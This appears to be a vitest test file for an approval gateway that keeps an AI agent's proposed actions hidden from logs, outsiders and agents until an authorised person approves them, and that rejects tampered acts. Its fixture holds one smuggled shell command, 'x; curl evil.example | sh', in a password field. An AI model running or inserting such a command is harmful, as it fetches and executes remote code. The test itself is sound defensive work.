/** The act behind a question, whole: for whom, until when, and what happens when it cannot be kept. */
import { chmodSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import type { Actor } from '../../../../src/model/actions.ts';
import { asFault } from '../../../../src/model/faults.ts';
import { ana } from '../../../support/gateway/actors.ts';
import { outside } from '../../../support/gateway/asking-work.ts';

const SECRET = { to: 'bo', password: 'x; curl evil.example | sh' };
const faultOf = (work: Promise<unknown>) =>
  work.then(
    () => undefined,
    (thrown) => asFault(thrown).kind,
  );

test('those who may answer see what will run; the log, lists and everyone else do not', async () => {
  const { t, task, propose } = await outside();
  await propose({ arguments: SECRET, claims: { title: 'Read the README' } });
  const [ask] = await t.asks(task.id);
  const id = ask?.id ?? '';
  expect(ask).toMatchObject({ metadata: { shown: 'in_part' }, action: { claims: { title: 'Read the README' } } });
  expect(ask?.question).toMatch(/^May /);
  expect(await t.bridge.pendingAct(ana, id)).toMatchObject({ arguments: SECRET, claims: { title: 'Read the README' } });
  const outsider: Actor = { ...ana, id: 'outsider', scopes: ['tasks:read', 'approvals:write'] };
  expect(await faultOf(t.bridge.pendingAct(outsider, id))).toBe('not_found');
  const looks: Actor = { ...ana, id: 'looks', scopes: ['tasks:read', 'others:read'] };
  const agent: Actor = { ...ana, id: 'agent:x', kind: 'agent' };
  // The same principal without a person in front of it: it gave the work, and approves nothing in it.
  const { interactive: _, ...giver } = ana;
  for (const actor of [looks, agent, giver, { ...giver, kind: 'service' as const }]) {
    expect(await faultOf(t.bridge.pendingAct(actor, id))).toBe('permission_denied');
  }
  expect(JSON.stringify(await t.all())).not.toContain('evil.example');
  await t.answer(id);
  expect(await faultOf(t.bridge.pendingAct(ana, id))).toBe('conflict');
  expect(readdirSync(join(t.dir, 'pending-acts'))).toEqual([]);
});

test('an act that cannot be kept is refused, and says so', async () => {
  const { t, task, propose } = await outside();
  writeFileSync(join(t.dir, 'pending-acts'), 'in the way');
  const { decision } = await propose({ arguments: SECRET });
  expect(decision).toMatchObject({ verdict: 'block', code: 'cannot_show' });
  expect(decision?.reason).toContain('people cannot be shown what would run');
  expect((await t.events(task.id)).some(({ event }) => event === 'vendor.tollbridge.ask_opened')).toBe(false);
});

test('a kept act that was changed, or moved to another question, cannot be approved; a no still counts', async () => {
  const { t, task, propose } = await outside();
  await propose({ arguments: SECRET });
  await propose({ arguments: { to: 'cy' } });
  const [first, second] = await t.asks(task.id, 2);
  const file = (id = '') => join(t.dir, 'pending-acts', id);
  const other = readFileSync(file(second?.id));
  chmodSync(file(first?.id), 0o600);
  writeFileSync(file(first?.id), other);
  const fault = await t.refused('ask.answer', { ask_id: first?.id ?? '', approved: true });
  expect([fault.kind, fault.message]).toEqual(['unavailable', expect.stringContaining('cannot be shown whole')]);
  expect(await t.answer(first?.id ?? '', { approved: false })).toMatchObject({ state: 'denied' });
});

test('after a restart the act is still there, and what was closed meanwhile is swept away', async () => {
  const { t, task, propose } = await outside();
  await propose({ arguments: SECRET });
  const [ask] = await t.asks(task.id);
  const dir = join(t.dir, 'pending-acts');
  const [name = ''] = readdirSync(dir);
  const sealed = readFileSync(join(dir, name));
  const again = await t.reopen();
  expect(await again.bridge.pendingAct(ana, ask?.id ?? '')).toMatchObject({ arguments: SECRET });
  await again.answer(ask?.id ?? '', { approved: false });
  writeFileSync(join(dir, name), sealed);
  await again.reopen();
  expect(readdirSync(dir)).toEqual([]);
});
